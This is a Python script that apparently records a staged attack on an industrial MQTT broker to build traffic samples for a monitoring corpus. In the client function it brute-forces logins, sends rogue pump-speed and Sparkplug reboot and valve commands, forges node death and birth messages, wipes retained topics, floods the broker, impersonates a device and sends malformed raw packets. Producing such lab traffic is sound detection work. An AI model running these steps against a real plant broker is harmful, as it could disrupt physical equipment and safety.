"""A rogue machine guesses passwords, listens to everything, commands a pump and an edge node, pretends to be
both, wipes what the broker keeps and floods it, beside an HMI at work."""

from collections.abc import Iterable

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "mqtt/recorded-attack",
    stacks=("paho-mqtt 2.2.0",),
    programs=("mosquitto 2.0.11",),
    servers=("10.56.1.10",),
    clients=("10.56.1.20", "10.56.1.51", "10.56.1.52", "10.56.1.66"),
    listens=("tcp 1883",),
)


def server() -> None:
    """The broker of the plant."""
    from _mqtt import broker

    broker()


def signature(said: bytes) -> Iterable[bytes]:
    """Control packets: the broker may send two in one segment."""
    from _mqtt import packets

    return packets(said)


def client() -> None:
    """Guess, listen, command, impersonate, wipe, flood, break the protocol."""
    from _mqtt import ATTACKER, EDGE, HMI, PUMP, Client
    from _sparkplug import GROUP, payload

    with Client(HMI, "hmi-1", "hmi") as hmi, Client(EDGE, "edge-52", "edge") as edge:
        pump = Client(PUMP, "pump-51", "pump").__enter__()
        pump.subscribe("plant/pump/set/#")
        edge.subscribe(f"{GROUP}/NCMD/Edge1", f"{GROUP}/DCMD/Edge1/#")
        hmi.subscribe("plant/pump/+")
        pump.publish("plant/pump/flow", "41.2", 1)
        pump.publish("plant/pump/config", '{"interval":1}', 1, retain=True)
        hmi.publish("STATE/hmi", "ONLINE", 1, retain=True)
        hmi.receive(2)

        for guess in range(12):
            with Client(ATTACKER, "mqtt-explorer", "engineer", password=f"guess-{guess}") as client:
                assert client.refused

        with Client(ATTACKER, "mqtt-explorer") as rogue:
            rogue.subscribe("#", "$SYS/#", "spBv1.0/#")
            rogue.receive(2)
            for attempt in range(30):
                rogue.publish("plant/pump/set/speed", str(1000 * attempt), 1)
            pump.receive(30)
            rogue.publish(f"{GROUP}/NCMD/Edge1", payload(0, Node_Control__Reboot=True), 1)
            for value in (True, False) * 5:
                rogue.publish(f"{GROUP}/DCMD/Edge1/Tank", payload(1, Valve=value), 1)
            edge.receive(11)
            rogue.publish(f"{GROUP}/NDEATH/Edge1", payload(0), 1)
            rogue.publish(f"{GROUP}/NBIRTH/Edge1", payload(0, Node_Control__Rebirth=False), 1)
            rogue.publish("STATE/hmi", "OFFLINE", 1, retain=True)
            rogue.publish("plant/pump/config", b"", 1, retain=True)
        with Client(ATTACKER, "flood") as flood:
            for _ in range(200):
                flood.publish("plant/pump/flow", "0.0")
            hmi.receive(201)

        with Client(ATTACKER, "pump-51", "pump") as impostor:  # the broker drops the real pump
            pump.paho.loop_stop()
            impostor.publish("plant/pump/flow", "41.2", 1)
            hmi.receive()
        _break_protocol()


def _break_protocol() -> None:
    """A publication before any connection, one to a wildcard, and a packet of the reserved type 0."""
    import socket
    from contextlib import suppress

    from _mqtt import ATTACKER, BROKER

    hello = b"\x10\x10\x00\x04MQTT\x04\x02\x00\x3c\x00\x04oops"
    wildcard = b"\x30\x0b\x00\x08plant/+/x"
    for messages in ((b"\x30\x06\x00\x04plnt",), (hello, wildcard), (hello, b"\x00\x00")):
        connection = socket.create_connection((BROKER, 1883), timeout=2, source_address=(ATTACKER, 0))
        with connection, suppress(ConnectionResetError):
            for message in messages:
                connection.sendall(message)
                connection.recv(64)
